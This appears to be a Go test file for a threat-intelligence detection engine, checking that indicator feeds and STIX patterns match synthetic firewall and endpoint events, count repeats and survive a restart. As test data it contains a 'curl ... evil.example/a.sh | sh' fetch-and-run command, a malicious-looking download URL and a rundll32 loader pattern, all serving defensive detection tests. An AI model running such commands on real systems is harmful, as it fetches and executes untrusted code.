package sense

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-sec/tocsin/event"
	"github.com/tocsin-sec/tocsin/intel"
	"github.com/tocsin-sec/tocsin/sight"
)

var someFormat = &event.Format{Name: "somefirewall", LogSource: event.LogSource{Product: "firewall"}, ECS: map[string][]string{
	"source.ip": {"src"}, "destination.ip": {"dst"}, "destination.port": {"dpt"}, "host.name": {"device"}, "event.outcome": {"verdict"},
	"dns.question.name": {"qname"}, "url.full": {"link"}, "user.name": {"who"}, "process.command_line": {"cmd"}, "process.executable": {"exe"},
}}

func eventOf(tb testing.TB, b *event.Batch, at int64, pairs ...string) {
	tb.Helper()
	var names []string
	for i := 0; i < len(pairs); i += 2 {
		names = append(names, pairs[i])
	}
	ev := b.Add(event.NewShape(someFormat, names...))
	for i := range names {
		ev.Values[i] = event.Value{Raw: pairs[2*i+1], Kind: event.Text}
	}
	ev.Time, ev.Origin, ev.Record = at, &event.Origin{Path: "fw.log", Format: "somefirewall"}, int64(len(b.Events))
}

func setOf(tb testing.TB, format intel.Format, text string) *sight.Indicators {
	tb.Helper()
	b := intel.NewBuilder()
	r, err := intel.Load(b, &intel.Source{Name: "feed", Format: format, Confidence: 80}, []byte(text))
	if err != nil || r.Unread > 0 {
		tb.Fatalf("%v %+v", err, r)
	}
	x := &sight.Indicators{}
	x.Use(b.Build())
	return x
}

// sightings are those of a batch.
func sightings(x *sight.Indicators, b *event.Batch) []sight.Sighting {
	w := sight.NewWatch(true, x, nil)
	w.Begin()
	for i := range b.Events {
		w.See(&b.Events[i])
	}
	return w.Take()
}

// findings are what the detectors make of a batch.
func findings(tb testing.TB, x *sight.Indicators, b *event.Batch) map[string]*Finding {
	tb.Helper()
	s := New(Options{})
	out := make(map[string]*Finding)
	tell := func(f *Finding) {
		if f.Action == "indicator-match" {
			out[f.Key] = f
		}
	}
	s.Observe(sightings(x, b), tell)
	s.Finish(tell)
	return out
}

func field(f *Finding, name string) string {
	for _, x := range f.Fields {
		if x.Name == name {
			return x.Value
		}
	}
	return ""
}

func TestIndicatorFindings(t *testing.T) {
	x := setOf(t, intel.Plain, strings.Join([]string{
		"198.51.100.7 # a c2 server", "203.0.113.0/24", "evil.example", "http://bad.example/drop.exe",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b856", "6.6.6.6:8443",
	}, "\n"))
	day := time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC).UnixNano()
	for _, c := range []struct {
		name   string
		fields []string
		want   string // value direction role outcome
	}{
		{"out", []string{"src", "10.0.0.5", "dst", "198.51.100.7", "verdict", "allow", "device", "fw1"}, "198.51.100.7 outbound destination success"},
		{"out refused", []string{"src", "10.0.0.5", "dst", "203.0.113.9", "verdict", "deny"}, "203.0.113.0/24 outbound destination failure"},
		{"in", []string{"src", "203.0.113.9", "dst", "10.0.0.9", "verdict", "drop"}, "203.0.113.0/24 inbound source failure"},
		{"port", []string{"src", "10.0.0.5", "dst", "6.6.6.6", "dpt", "8443"}, "6.6.6.6:8443 outbound destination unknown"},
		{"other port", []string{"src", "10.0.0.5", "dst", "6.6.6.6", "dpt", "443"}, ""},
		{"name", []string{"device", "ws1", "qname", "www.EVIL.example."}, "evil.example outbound query unknown"},
		{"link", []string{"src", "10.0.0.5", "link", "http://bad.example/drop.exe?x=1"}, "bad.example/drop.exe outbound url unknown"},
		{"command", []string{"device", "ws1", "cmd", `curl -s "https://www.evil.example/a.sh" | sh`}, "evil.example outbound command unknown"},
		{"hashes", []string{"device", "ws1", "Hashes", "MD5=00000000000000000000000000000001,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B856"}, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b856 outbound file unknown"},
		{"nothing", []string{"src", "10.0.0.5", "dst", "192.0.2.99", "qname", "good.example"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var b event.Batch
			eventOf(t, &b, day, c.fields...)
			got := findings(t, x, &b)
			if c.want == "" {
				if len(got) > 0 {
					t.Fatalf("found %v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("%d findings", len(got))
			}
			for _, f := range got {
				s := fmt.Sprintf("%s %s %s %s", field(f, "threat.indicator.name"), field(f, "tocsin.evidence.direction"), field(f, "tocsin.evidence.role"), field(f, "event.outcome"))
				if s != c.want {
					t.Errorf("%s, want %s", s, c.want)
				}
				if field(f, "threat.feed.name") != "feed" || field(f, "tocsin.evidence.confidence") != "80" || len(f.Refs) != 1 || f.Time != day {
					t.Errorf("%+v", f)
				}
				t.Log(f.Text)
			}
		})
	}
}

// Repeats count up under one key; who else meets the same has a key of his own, and so has the next day.
func TestIndicatorRepeats(t *testing.T) {
	x := setOf(t, intel.Plain, "198.51.100.7")
	day := time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC).UnixNano()
	var b event.Batch
	for i := range 1000 {
		eventOf(t, &b, day+int64(i)*1e9, "src", fmt.Sprintf("10.0.0.%d", i%2+1), "dst", "198.51.100.7", "verdict", "deny")
	}
	eventOf(t, &b, day+listedDay, "src", "10.0.0.1", "dst", "198.51.100.7", "verdict", "allow")
	counts := make(map[int64]int)
	for _, f := range findings(t, x, &b) {
		counts[f.Count]++
		if len(f.Refs) > MaxRefs {
			t.Errorf("%d places", len(f.Refs))
		}
	}
	if len(counts) != 2 || counts[500] != 2 || counts[1] != 1 {
		t.Errorf("counts %v, want two of 500 and one of 1", counts)
	}
}

const someBundle = `{"type":"bundle","id":"bundle--1","objects":[
{"type":"indicator","id":"indicator--1","name":"loader","pattern_type":"stix","valid_from":"2020-01-01T00:00:00Z","pattern":"[process:command_line MATCHES 'rundll32.+,#1$' AND process:name = 'rundll32.exe']"},
{"type":"indicator","id":"indicator--2","name":"two steps","pattern_type":"stix","valid_from":"2020-01-01T00:00:00Z","pattern":"([domain-name:value = 'stage.example' AND domain-name:value LIKE '%.example'] FOLLOWEDBY [network-traffic:dst_port = 4444 AND network-traffic:dst_ref.value = '192.0.2.44']) WITHIN 60 SECONDS"},
{"type":"indicator","id":"indicator--3","name":"old","pattern_type":"stix","valid_from":"2020-01-01T00:00:00Z","valid_until":"2021-01-01T00:00:00Z","pattern":"[process:name = 'cmd.exe']"}]}`

func TestIndicatorPatterns(t *testing.T) {
	x := setOf(t, intel.STIX, someBundle)
	day := time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC).UnixNano()
	step := func(order ...int64) map[string]*Finding {
		var b event.Batch
		eventOf(t, &b, day+order[0]*1e9, "device", "ws1", "src", "10.0.0.5", "qname", "stage.example")
		eventOf(t, &b, day+order[1]*1e9, "device", "ws1", "src", "10.0.0.5", "dst", "192.0.2.44", "dpt", "4444")
		return findings(t, x, &b)
	}
	if n := len(step(0, 30)); n != 1 {
		t.Errorf("two steps in order: %d findings", n)
	}
	if n := len(step(30, 0)); n != 0 {
		t.Errorf("two steps in the wrong order: %d findings", n)
	}
	if n := len(step(0, 90)); n != 0 {
		t.Errorf("two steps too far apart: %d findings", n)
	}
	var b event.Batch
	eventOf(t, &b, day, "device", "ws1", "exe", `C:\Windows\System32\rundll32.exe`, "cmd", `rundll32.exe C:\Users\x\a.dll,#1`)
	eventOf(t, &b, day, "device", "ws1", "exe", `C:\Windows\System32\rundll32.exe`, "cmd", `rundll32.exe shell32.dll,Control_RunDLL`)
	eventOf(t, &b, day, "device", "ws1", "exe", `C:\Windows\System32\cmd.exe`, "cmd", `cmd.exe /c dir`)
	got := findings(t, x, &b)
	if len(got) != 1 {
		t.Fatalf("%d findings of a pattern", len(got))
	}
	for _, f := range got {
		if field(f, "tocsin.evidence.role") != "pattern" || !strings.Contains(f.Text, "loader") {
			t.Errorf("%+v", f)
		}
	}
}

// What was counted before a restart is counted on after it.
func TestIndicatorSnapshot(t *testing.T) {
	x := setOf(t, intel.STIX, someBundle)
	day := time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC).UnixNano()
	var first, second event.Batch
	eventOf(t, &first, day, "device", "ws1", "src", "10.0.0.5", "qname", "stage.example")
	eventOf(t, &second, day+30e9, "device", "ws1", "src", "10.0.0.5", "dst", "192.0.2.44", "dpt", "4444")
	a, found := New(Options{}), make(map[string]bool)
	tell := func(f *Finding) { found[f.Key] = true }
	a.Observe(sightings(x, &first), tell)
	a.Advance(day+10e9, tell)
	b := New(Options{})
	if err := b.Restore(a.Snapshot(nil)); err != nil {
		t.Fatal(err)
	}
	b.Observe(sightings(x, &second), tell)
	b.Finish(tell)
	if len(found) != 1 {
		t.Errorf("%d findings, want 1", len(found))
	}
}
